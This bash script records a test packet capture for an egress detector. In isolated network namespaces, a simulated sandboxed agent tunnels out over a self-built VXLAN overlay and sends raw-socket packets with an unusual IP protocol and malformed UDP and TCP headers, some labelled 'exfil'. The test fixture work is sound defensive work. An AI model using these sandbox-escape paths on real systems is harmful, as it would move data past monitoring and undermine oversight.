#!/bin/bash
# record_side_paths.sh - record pcaps/detect/side_paths.pcap: ways out of a sandbox
# that are neither a TCP connection nor a plain UDP datagram, made by real tools.
#
# README
#   sudo pcaps/record_side_paths.sh [OUTDIR]     (default: pcaps/detect beside this script)
#
# Needs root, iproute2 (with the kernel's vxlan), ping, python3, dumpcap and tshark. Three
# namespaces on one bridge, nothing else (tests/lib/netns.sh; IPv6 off):
#   ew-side-agent  10.99.0.10/24   the sandboxed agent; the capture is taken on its veth
#   ew-side-server 10.99.0.80/24   a host outside the sandbox (tests/detect/sandbox.yaml)
#   ew-side-switch                 the bridge
# No route, NAT or link to the host's interfaces.
#
# What the agent does (every client bounded: ping -w, python socket timeouts):
#   1. builds its own overlay: a VXLAN interface (VNI 7, UDP 4789) to 10.99.0.80 with
#      the address 192.168.77.10/24 (the server has the other end, 192.168.77.80), then
#      pings 192.168.77.80 three times and sends a UDP datagram "exfil" to
#      192.168.77.80:9000, which a python responder on the server answers. The inner
#      addresses are not the sandbox's; only the carrier tells who is leaving.
#   2. with raw sockets (python3): 48 bytes in IP protocol 253 to 10.99.0.80; a UDP
#      header whose length says 200 for 20 bytes, to 10.99.0.80:9999; a TCP SYN whose
#      data offset is 4, to 10.99.0.80:443. The kernel sends them as given; a listener
#      on the server that reads raw packets gets their bytes.
#
# Expected (tests/detect/expected.txt, sandbox.yaml): udp_egress 10.99.0.80:4789 (the
# carrier) and 10.99.0.80:9999 (the broken header); proxy_bypass 10.99.0.80 (protocol
# 253) and 10.99.0.80:443 (the broken TCP header). Nothing for the inner packets,
# whose source is not in the sandbox.
#
# A safety capture on the switch ports checks at the end that no packet went to an
# address other than these hosts'. The trap stops everything and deletes the
# namespaces on any exit. Real traffic: ids, ports and times differ on every run;
# record once and commit the file.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../tests/lib/netns.sh"
OUTDIR=${1:-$HERE/detect}
NS_A=ew-side-agent
NS_S=ew-side-server
NS_W=ew-side-switch
ALL_NS="$NS_A $NS_S $NS_W"
IP_A=10.99.0.10
IP_S=10.99.0.80
OV_A=192.168.77.10
OV_S=192.168.77.80

netns_init record_side_paths.sh /tmp/ew-record-side.XXXXXX "$ALL_NS"
[ "$(id -u)" -eq 0 ] || { echo "record_side_paths.sh: must run as root" >&2; exit 2; }
for t in ip ping python3 dumpcap tshark; do
	command -v "$t" >/dev/null || { echo "record_side_paths.sh: $t not found" >&2; exit 2; }
done
netns_clear_leftovers
netns_create $ALL_NS
netns_ipv4_only $ALL_NS
netns_switch "$NS_W" ew-side-br
netns_host "$NS_A" ew-side-a ew-side-pa "$IP_A/24"
netns_host "$NS_S" ew-side-s ew-side-ps "$IP_S/24"
netns_audit_start 120

# the overlay, one end in each namespace
ip -n "$NS_A" link add vx7 type vxlan id 7 remote "$IP_S" dstport 4789 dev ew-side-a
ip -n "$NS_S" link add vx7 type vxlan id 7 remote "$IP_A" dstport 4789 dev ew-side-s
ip -n "$NS_A" addr add "$OV_A/24" dev vx7
ip -n "$NS_S" addr add "$OV_S/24" dev vx7
ip -n "$NS_A" link set vx7 up
ip -n "$NS_S" link set vx7 up

cat >"$TMP/responder.py" <<'EOF'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 9000))
s.settimeout(60)
open(sys.argv[2], "w").close()
try:
    while True:
        data, peer = s.recvfrom(2048)
        s.sendto(b"ok " + data, peer)
except socket.timeout:
    pass
EOF
cat >"$TMP/agent.py" <<'EOF'
import socket, struct, sys
ov, dst = sys.argv[1], sys.argv[2]
# a UDP datagram over the overlay, answered
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(b"exfil", (ov, 9000))
try:
    print("overlay udp:", u.recvfrom(2048)[0])
except socket.timeout:
    print("overlay udp: no answer")
# raw IP protocol 253
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
r.sendto(b"exfil over protocol 253: " + b"x" * 23, (dst, 0))
# UDP whose length field says 200 for 20 bytes
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
r.sendto(struct.pack(">HHHH", 40999, 9999, 200, 0) + b"lying length", (dst, 0))
# TCP SYN with a data offset of 4 (16 bytes: below the 20-byte minimum)
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
r.sendto(struct.pack(">HHIIBBHHH", 40998, 443, 1, 0, 0x40, 0x02, 1024, 0, 0) + b"data", (dst, 0))
print("raw: sent 3")
EOF
netns_bg "$NS_S" python3 "$TMP/responder.py" "$OV_S" "$TMP/responder.ready" >"$TMP/responder.log" 2>&1
for _ in $(seq 1 50); do [ -e "$TMP/responder.ready" ] && break; sleep 0.1; done
[ -e "$TMP/responder.ready" ] || { echo "record_side_paths.sh: the responder did not start" >&2; exit 1; }

netns_capture_start "$NS_A" ew-side-a side_paths "host $IP_S"
netns_log_exec "$NS_A" "$TMP/agent.log" ping -n -c 3 -i 0.2 -W 2 -w 5 "$OV_S"
netns_log_exec "$NS_A" "$TMP/agent.log" timeout 20 python3 "$TMP/agent.py" "$OV_S" "$IP_S"
netns_capture_stop

netns_audit_finish "10\.99\.0\.(10|80)|192\.168\.77\.(10|80)" # the overlay's are the two hosts' too
cp "$TMP/side_paths.pcap" "$OUTDIR/side_paths.pcap"
chmod 644 "$OUTDIR/side_paths.pcap"
echo "record_side_paths.sh: wrote $OUTDIR/side_paths.pcap ($(wc -c <"$OUTDIR/side_paths.pcap") bytes," \
	"$(tshark -r "$OUTDIR/side_paths.pcap" 2>/dev/null | wc -l) packets)"
grep -a -E "packets transmitted|^overlay|^raw" "$TMP/agent.log" || true
